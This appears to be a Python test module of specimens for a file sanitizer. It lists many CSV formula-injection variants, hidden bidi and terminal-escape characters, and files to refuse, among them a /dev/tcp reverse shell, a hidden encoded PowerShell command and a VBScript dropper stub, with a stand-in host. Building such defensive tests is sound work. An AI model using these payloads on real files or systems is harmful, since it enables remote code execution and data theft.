"""Texts and tables that act in the program that opens them, or read otherwise than they are."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Literal

from tests.corpus.specimens import Received, Specimen, always, disarm, refuse

CALC = "=cmd|'/C calc'!A0"
FETCH = "=WEBSERVICE(A1)"
FORMULAS: dict[str, str] = {
    "a live link": f"id,note\n1,{CALC}\n",
    "a live link with a plus": "id,note\n1,+cmd|'/C calc'!A0\n",
    "a live link with a minus": "id,note\n1,-2+3+cmd|'/C calc'!A0\n",
    "a live link with an at": "id,note\n1,@SUM(cmd|'/C calc'!A0)\n",
    "a link that tells": 'id,note\n1,"=HYPERLINK(""http://198.51.100.7/?""&A1,""open"")"\n',
    "a web service": 'id,note\n1,"=WEBSERVICE(""http://198.51.100.7/""&A1)"\n',
    "an import": 'id,note\n1,"=IMPORTXML(CONCAT(""http://198.51.100.7/"",A1),""//a"")"\n',
    "a picture": 'id,note\n1,"=IMAGE(""http://198.51.100.7/""&A1)"\n',
    "in the first cell": f"{FETCH},note\n",
    "in the last cell": f"id,note\n1,{FETCH}",
    "between semicolons": f"id;note\n1;{FETCH}\n",
    "between tabs": f"id\tnote\n1\t{FETCH}\n",
    "between bars": "id|note\n1|=1+1\n",
    "behind a space": f"id,note\n1, {FETCH}\n",
    "behind a tab": f"id,note\n1,\t{FETCH}\n",
    "behind a return": f"id,note\r1,{FETCH}\r",
    "behind a line within quotes": 'id,note\n1,"a\n=1+1"\n',
    "in quotes": f'id,note\n"1","{FETCH}"\n',
    "behind a hard space": f"id,note\n1,\u00a0{FETCH}\n",
    "behind a letter nobody sees": f"id,note\n1,\u200b{FETCH}\n",
    "behind a byte order mark": f"\ufeff{FETCH},a\n",
    "with a wide sign": "id,note\n1,\uff1dWEBSERVICE(A1)\n",
    "with a wide plus": "id,note\n1,\uff0bWEBSERVICE(A1)\n",
    "with a plus": "id,note\n1,+WEBSERVICE(A1)\n",
    "with a minus": "id,note\n1,-WEBSERVICE(A1)\n",
    "with an at": "id,note\n1,@WEBSERVICE(A1)\n",
    "with two signs": "id,note\n1,+-=WEBSERVICE(A1)\n",
    "with a separator of its own": f"sep=#\nid#note\n1#{FETCH}\n",
    "with two separators": f"id;a,note\n1;2,{FETCH}\n",
    "with an empty cell before": f"id,,note\n,,{FETCH}\n",
    "with quotes out of place": f'id,note\n1,a"b"{FETCH}\n2,"x",{FETCH}\n',
    "that looks like a number": "id,note\n1,-1+1*WEBSERVICE(A1)\n",
    "that looks like a telephone": "id,note\n1,+49(WEBSERVICE(A1))\n",
    "of the old kind": 'id,note\n1,=CALL("Shell32","ShellExecuteA","JJCCCCJ",0)\n',
    "far down": "id,note\n" + "1,nothing\n" * 30_000 + f"2,{FETCH}\n",
    "in a very long line": "a," * 200_000 + FETCH + "\n",
}

# A reader's cells, by each of the separators that readers know.
_ACTS = re.compile(r"[=@\uff1d\uff20]|[+\-\uff0b\uff0d].*[A-Za-z(|!]", re.S)
_BLANK = " \t\u00a0\u200b\ufeff\u2060"


def is_inert(received: Received) -> str:
    """Whether no reader finds a formula in the copy, whatever separator it goes by."""
    text = received.safe.decode("utf-8")
    own = re.match(r"sep=(.)", text)
    for separator in {*",;\t|", *(own[1] if own else "")}:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for cell in _cells(text, separator, quoting):
                if _ACTS.match(cell.lstrip(_BLANK + ('"' if quoting == csv.QUOTE_NONE else ""))):
                    return f"a reader with {separator!r} finds {cell[:40]!r}"
    return ""


def _cells(text: str, separator: str, quoting: Literal[0, 3]) -> Iterator[str]:
    csv.field_size_limit(1 << 24)
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting)
    return (cell for row in rows for cell in row)


HIDDEN: dict[str, tuple[bytes, tuple[bytes, ...]]] = {
    "letters turned around": ("Pay to \u202e4321 2345\u202c now.\n".encode(), ("\u202e".encode(),)),
    "letters set apart": (
        "if \u2066admin\u2069 \u2067then\u2069\n".encode(),
        ("\u2066".encode(), "\u2067".encode()),
    ),
    "commands to the terminal": (b"hello \x1b[2J\x1b]0;owned\x07 world\n", (b"\x1b",)),
    "commands of the second kind": ("hello \x9b2J world\n".encode(), ("\x9b".encode(),)),
    "backspaces": (b"rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -l\n", (b"\x08",)),
    "letters of tags": (
        "Hello.\U000e0001\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\n".encode(),
        ("\U000e0049".encode(), "\U000e0001".encode()),
    ),
    "letters turned around in UTF-16": (
        "Pay \u202e4321\n".encode("utf-16"),
        ("\u202e".encode(), b"\x2e\x20"),
    ),
    "letters turned around in a table": ("id,name\n1,\u202egpj.exe\n".encode(), ("\u202e".encode(),)),
}

REFUSED: list[tuple[str, str, bytes]] = [
    ("a NUL far behind", "notes.txt", b"Hello.\n" * 5000 + b"\0" + b"Hello.\n"),
    ("a program far behind", "log.txt", b"Hello.\n" * 5000 + b"MZ\x90\0\3\0\0\0" + bytes(400)),
    ("half a letter of UTF-16", "wide.txt", "Hello.".encode("utf-16") + b"a"),
    ("letters of UTF-16 that are none", "wide2.txt", b"\xff\xfe" + b"\0\xd8" * 40),
    ("noise", "noise.csv", bytes(range(256)) * 40),
    ("a page called a table", "table.csv", b"<html><script>alert(1)</script></html>\n"),
    ("an excel file of markup", "Prices.csv", b"<table><tr><td>=cmd|'/C calc'!A0</td></tr></table>"),
    ("a hidden command", "readme.txt", b"powershell -nop -w hidden -enc " + b"QQBhAGEA" * 20 + b"\n"),
    (
        "a dropper",
        "update.txt",
        b'Set s = CreateObject("WScript.Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")\ns.Run "a.exe"\n',
    ),
    ("a shell for somebody else", "fix.txt", b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"),
]

TEXTS: tuple[Specimen, ...] = (
    *(
        disarm("text active", f"a table, {what}", "export.csv", always(text.encode()), proof=is_inert)
        for what, text in FORMULAS.items()
    ),
    disarm(
        "text active",
        "a table in UTF-16",
        "wide.csv",
        always(f"id\tnote\n1\t{FETCH}\n".encode("utf-16")),
        proof=is_inert,
    ),
    disarm(
        "text active",
        "a table in Latin letters",
        "old.csv",
        always(f"id;gr\u00f6\u00dfe\n1;{FETCH}\n".encode("latin-1")),
        proof=is_inert,
    ),
    disarm(
        "text active",
        "a table told as a sheet",
        "sheet.csv",
        always(f"a;b\n1;{FETCH}\n".encode()),
        proof=is_inert,
        declared="application/vnd.ms-excel",
    ),
    *(
        disarm(
            "text active",
            f"a text with {what}",
            "table.csv" if "table" in what else "notes.txt",
            always(content),
            *gone,
        )
        for what, (content, gone) in HIDDEN.items()
    ),
    *(refuse("text active", what, name, always(content)) for what, name, content in REFUSED),
)
